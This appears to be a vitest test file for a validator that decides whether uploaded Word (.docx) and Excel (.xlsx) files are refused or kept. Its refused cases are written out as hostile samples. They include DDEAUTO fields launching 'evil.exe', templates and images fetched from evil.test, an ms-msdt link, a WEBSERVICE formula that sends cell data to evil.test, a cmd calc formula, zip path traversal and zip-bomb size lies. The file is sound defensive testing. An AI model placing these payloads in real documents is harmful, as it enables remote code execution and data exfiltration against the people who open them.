import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { afterAll, expect, test } from 'vitest';
import { ZipFile } from 'yazl';
import {
  EXTERNAL,
  excelFile,
  excelWith,
  field,
  relationship,
  WORD_PARTS,
  wordFile,
  wordOfType,
  wordUsing,
  wordWith,
} from './office/office.fixture.ts';
import { REASONS } from './office/rules.ts';
import { openOfficeFile } from './officeFiles.ts';
import { Rejected } from './open.ts';

const folder = await mkdtemp(join(tmpdir(), 'portico-office-'));
afterAll(() => rm(folder, { recursive: true, force: true }));

async function outcomeOf(content: Buffer, kind: 'docx' | 'xlsx'): Promise<string> {
  const path = join(folder, 'file');
  await writeFile(path, content);
  return openOfficeFile(path, kind).then(
    () => 'kept',
    (cause) => {
      if (!(cause instanceof Rejected)) return 'damaged';
      return String(cause.details.reason ?? cause.code);
    },
  );
}

const { program, attachment, outside, hidden, unknown } = REASONS;
const LARGE = 'it would be far too large when it’s opened';
const PART = 'word/media/a.png';
const DOCUMENT = 'word/document.xml';

const WORD: [string, () => Buffer, string][] = [
  ['macros', () => wordFile({ 'word/vbaProject.bin': 'x' }), program],
  ['macros that go by another name', () => wordUsing('vbaProject', 'image.png'), program],
  [
    'macros in its list of types',
    () => wordOfType('application/vnd.ms-word.document.macroEnabled.main+xml'),
    program,
  ],
  ['a control', () => wordUsing('control', 'a.xml'), program],
  ['a menu of its own', () => wordUsing('ui/extensibility', 'a.xml'), program],
  ['a program beside its parts', () => wordFile({ 'word/tool.exe': 'MZ' }), program],
  ['an object of another program', () => wordUsing('oleObject', 'embeddings/a.xml'), attachment],
  [
    'an object that says so in its list of types',
    () => wordOfType('application/vnd.openxmlformats-officedocument.oleObject'),
    attachment,
  ],
  ['a file of another kind', () => wordFile({ 'word/embeddings/a.bin': 'x' }), attachment],
  ['a web page as a chapter', () => wordUsing('aFChunk', 'a.xml'), attachment],
  [
    'a template from elsewhere',
    () => wordUsing('attachedTemplate', 'https://evil.test/a.dotm', EXTERNAL),
    outside,
  ],
  [
    'a template from elsewhere, spelled differently',
    () => wordUsing('attachedTemplate', '&#104;ttps://evil.test', "TargetMode = '&#69;xternal'"),
    outside,
  ],
  ['an object from elsewhere', () => wordUsing('oleObject', 'https://evil.test/a!', EXTERNAL), outside],
  ['a picture from elsewhere', () => wordUsing('image', 'https://evil.test/a.png', EXTERNAL), outside],
  [
    'a picture from elsewhere that says it’s inside',
    () => wordUsing('image', 'https://evil.test/a.png'),
    outside,
  ],
  ['a picture on a server in the network', () => wordUsing('image', '\\\\evil\\a.png'), outside],
  ['a link to a file', () => wordUsing('hyperlink', 'file:///c:/a.exe', EXTERNAL), outside],
  ['a link that starts a program', () => wordUsing('hyperlink', 'ms-msdt:/id', EXTERNAL), outside],
  ['a drawing from elsewhere', () => wordWith('<v:imagedata src="http://evil.test/a.png"/>'), outside],
  [
    'a drawing with a picture from elsewhere',
    () => wordFile({ 'word/media/a.svg': '<svg><image xlink:href="http://evil.test/a"/></svg>' }),
    outside,
  ],
  ['a relationship of a kind we don’t know', () => wordUsing('sesame', 'a.xml'), unknown],
  [
    'relationships in an unknown encoding',
    () => wordFile({ '_rels/.rels': Buffer.from(relationship('vbaProject', 'a'), 'utf16le') }),
    'damaged',
  ],
  [
    'relationships that can’t be read',
    () => wordFile({ '_rels/.rels': '<Relationship Type="a/image" Target=evil>' }),
    'damaged',
  ],
  ['entities of its own', () => wordFile({ [DOCUMENT]: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), hidden],
  ['a field that starts a program', () => wordWith(field(' DDEAUTO c:\\evil.exe ')), outside],
  ['a field that starts a program, in pieces', () => wordWith(field(' DD', 'E', 'AUTO evil ')), outside],
  [
    'a field that starts a program, made by another field',
    () => wordWith(field(field('QUOTE 68 68 69'), ' evil')),
    outside,
  ],
  ['a simple field that starts a program', () => wordWith('<w:fldSimple w:instr=" dde evil "/>'), outside],
  ['a field that loads a file', () => wordWith(field('INCLUDETEXT "https://evil.test/a"')), outside],
  ['a field that links to a file', () => wordWith(field('HYPERLINK "file:///c:/evil"')), outside],
  [
    'a part that is larger than it says',
    () => wordFile({ [PART]: Buffer.alloc(5000) }, { lies: { [PART]: { unpacked: 10 } } }),
    LARGE,
  ],
  [
    'a part that is smaller than it says',
    () => wordFile({ [PART]: 'x' }, { lies: { [PART]: { unpacked: 9 } } }),
    'damaged',
  ],
  ['gigabytes', () => wordFile({ [PART]: 'x' }, { lies: { [PART]: { unpacked: 2 ** 32 - 1 } } }), LARGE],
  [
    'one part of 150 MB',
    () => wordFile({ [PART]: 'x' }, { lies: { [PART]: { unpacked: 150_000_000 } } }),
    LARGE,
  ],
  [
    'parts that overlap',
    () => wordFile({ [PART]: 'x', 'word/media/b.png': 'x' }, { lies: { 'word/media/b.png': { at: 0 } } }),
    hidden,
  ],
  [
    'a size that only its directory knows',
    () => wordFile({ [PART]: 'xyz' }, { lies: { [PART]: { unpacked: 2, onlyInDirectory: true } } }),
    hidden,
  ],
  [
    'two names for one part',
    () =>
      wordFile({ [PART]: 'x' }, { lies: { [PART]: { name: 'word/media/b.png', onlyInDirectory: true } } }),
    hidden,
  ],
  ['two parts of one name', () => wordFile({ [PART]: 'x', 'word/media/A.png': 'y' }), hidden],
  ['something between its parts', () => wordFile({}, { gap: Buffer.from('<script>') }), hidden],
  ['something before its parts', () => Buffer.concat([Buffer.from('MZ'), wordFile()]), hidden],
  ['something after its end', () => Buffer.concat([wordFile(), Buffer.from('x')]), 'damaged'],
  ['more parts than it says', () => wordFile({ [PART]: 'x' }, { count: 2 }), hidden],

  ['a path that leads out of its folder', () => wordFile({ 'word/../../a.png': 'x' }), hidden],
  ['a path of a device', () => wordFile({ 'c:/a.png': 'x' }), hidden],
  ['a path from the root', () => wordFile({ '/etc/a.png': 'x' }), hidden],
  ['a password', () => wordFile({}, { lies: { [DOCUMENT]: { flags: 1 } } }), 'fileEncrypted'],
  ['too many parts', () => wordFile({}, { count: 10_001 }), LARGE],
  [
    'a workbook with a macro inside',
    () => wordFile({ 'word/embeddings/a.xlsx': excelFile({ 'xl/vbaProject.bin': 'x' }) }),
    program,
  ],
  [
    'a workbook inside a workbook',
    () => wordFile({ 'word/embeddings/a.xlsx': excelFile({ 'xl/embeddings/b.xlsx': excelFile() }) }),
    attachment,
  ],
];

test.each(WORD)('refuses a Word file with %s', async (_what, content, reason) => {
  expect(await outcomeOf(content(), 'docx')).toBe(reason);
});

const using = (type: string, target: string, more = '') =>
  excelFile({ 'xl/_rels/workbook.xml.rels': relationship(type, target, more) });
test.each<[string, () => Buffer, string]>([
  ['a link to another workbook', () => using('externalLink', 'externalLinks/a.xml'), unknown],
  ['a connection to data', () => using('connections', 'connections.xml'), unknown],
  ['a sheet of old macros', () => using('xlMacrosheet', 'a.xml'), program],
  ['a formula that starts a program', () => excelWith("cmd|'/c calc'!A0"), outside],
  [
    'a formula that sends what it knows',
    () => excelWith('_xlfn.WEBSERVICE(&quot;http://evil.test/&quot;&amp;A1)'),
    outside,
  ],
  ['a formula that shows a picture from elsewhere', () => excelWith('1+_xlfn.IMAGE(A1)'), outside],
  [
    'a name that runs something',
    () =>
      excelFile({ 'xl/workbook.xml': '<workbook><definedName name="a">CALL("k")</definedName></workbook>' }),
    outside,
  ],
])('refuses an Excel file with %s', async (_what, content, reason) => {
  expect(await outcomeOf(content(), 'xlsx')).toBe(reason);
});

test.each<[string, 'docx' | 'xlsx', () => Buffer]>([
  ['a letter', 'docx', () => wordFile()],
  [
    'a letter with links, pictures and a header',
    'docx',
    () =>
      wordFile({
        'word/_rels/document.xml.rels': relationship('hyperlink', 'https://a.test/?b=1&amp;c=2', EXTERNAL),
        'word/_rels/header1.xml.rels': relationship('image', 'media/a.png'),
        'word/header1.xml': '<w:hdr><v:imagedata r:id="r1"/></w:hdr>',
        'word/media/a.png': 'x',
        'docProps/thumbnail.jpeg': 'x',
        'customXml/item1.xml': '<a src="http://a.test"/>',
      }),
  ],
  [
    'a letter with a link to an email address',
    'docx',
    () => wordUsing('hyperlink', 'mailto:a@b.test', EXTERNAL),
  ],
  [
    'page numbers, contents and fields to fill in',
    'docx',
    () =>
      wordWith(
        field(' PAGE ') +
          field(' TOC \\o &quot;1-3&quot; ') +
          field('HYPERLINK &quot;https://a.test&quot;') +
          field('HYPERLINK \\l &quot;top&quot;') +
          field(' IF ', field('MERGEFIELD A'), ' = 1') +
          field(' =SUM(ABOVE) ') +
          '<w:fldSimple w:instr="DATE"/>',
      ),
  ],
  [
    'a letter about a DDE program',
    'docx',
    () => wordWith('<w:p><w:t>DDEAUTO is old &lt;!DOCTYPE&gt;</w:t></w:p>'),
  ],
  ['a letter with a comment in its XML', 'docx', () => wordWith('<!-- <Relationship -->')],
  [
    'a chart with its numbers',
    'docx',
    () => wordFile({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': excelFile() }),
  ],
  ['a workbook', 'xlsx', () => excelFile()],
  [
    'a workbook that was set up to be printed',
    'xlsx',
    () =>
      excelFile({
        'xl/printerSettings/printerSettings1.bin': 'x',
        'xl/worksheets/_rels/sheet1.xml.rels': relationship(
          'printerSettings',
          '../printerSettings/printerSettings1.bin',
        ),
      }),
  ],
  ['formulas that calculate', 'xlsx', () => excelWith('SUMIF(A:A,&quot;a|b&quot;,B:B)+RECALL(1)')],
])('keeps %s', async (_what, kind, content) => {
  expect(await outcomeOf(content(), kind)).toBe('kept');
});

test('keeps a file that was written without knowing the lengths of its parts', async () => {
  const zip = new ZipFile();
  for (const [name, content] of Object.entries(WORD_PARTS))
    zip.addReadStream(Readable.from([Buffer.from(content as string)]), name);
  zip.end();
  expect(await outcomeOf(await buffer(zip.outputStream), 'docx')).toBe('kept');
});
